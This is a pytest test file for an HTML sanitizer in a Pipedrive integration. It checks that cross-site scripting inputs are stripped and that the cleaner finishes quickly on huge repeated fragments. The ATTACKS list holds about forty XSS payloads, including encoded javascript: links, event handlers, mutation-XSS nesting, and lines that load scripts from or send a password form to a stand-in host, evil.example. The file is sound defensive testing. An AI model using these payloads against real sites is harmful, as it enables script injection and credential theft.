"""Hostile HTML: what becomes active in a browser never passes, and nothing takes long."""

from __future__ import annotations

import re
import time

import pytest

from target_pipedrive.mapping import markup
from target_pipedrive.pipedrive.lines import lines
from target_pipedrive.tidy import tidy

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<b/onmouseover='alert(1)'>x</b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>p{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=password></form>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<p><b><i>never closed",
    "</p></div></b>",
    "<b <script>alert(1)</script>",
    "<a href=\"x\" href='javascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt></p>",
]
KEPT = re.compile(
    r"</?(?:p|div|ul|ol|li|blockquote|h1|h2|b|i|u)>|<br>|</a>"
    r'|<a(?: href="(?:(?:https?|mailto|tel):[^"<>]*|(?![a-z\d+.-]*:)[^"<>:]*)")?>'
)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: repr(text)[:50])
def test_nothing_active_passes(attack):
    cleaned = markup.clean(attack)
    rest = KEPT.sub("", cleaned)
    assert "<" not in rest, cleaned
    assert markup.clean(cleaned) == cleaned
    names = [(end, name) for end, name in re.findall(r"<(/?)(\w+)", cleaned) if name != "br"]
    for tag in {name for _, name in names}:
        assert names.count(("", tag)) == names.count(("/", tag)), cleaned
    assert "alert" not in markup.visible_text("<style>alert</style><script>alert</script>")


PIECES = (
    "<b>",
    "<div>",
    "<ul><li>",
    "<ul><table></ul></table>",
    "<table>",
    "<p>",
    "<div></div>",
    "<a ",
    "<a href='",
    "<a x=",
    "<!--",
    "<!a",
    "<![CDATA[",
    "<?",
    "</",
    "<",
    "&",
    "&#",
    "&amp",
    "<script>",
    "<style>",
    "<title>",
    "<plaintext>",
    "<svg>",
    " \n",
    "\x00",
)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("piece", PIECES, ids=repr)
def test_none_takes_long(piece):
    text = piece * (150_000 // len(piece))
    began = time.process_time()
    markup.clean(text)
    markup.visible_text(text)
    markup.is_html(text)
    lines(text)
    assert time.process_time() - began < 10


def test_many_tags_side_by_side_are_no_attack():
    paragraph = "<div><p>Slept <b>well</b><br></p></div>"
    text = paragraph * 3_000
    assert markup.clean(text).count("<b>well</b>") == 3_000
    assert markup.visible_text(text).count("Slept well") == 3_000


@pytest.mark.parametrize("tag", ["div", "b", "ul", "blockquote"])
def test_tags_within_tags_without_end_leave_their_words(tag):
    text = f"<{tag}>" * 1_000 + "Slept well" + f"</{tag}>" * 1_000
    assert tidy(text, {tag}).strip() == "Slept well"
    assert f"<{tag}>" in tidy(f"<{tag}>" * 100 + "Slept well", {tag})
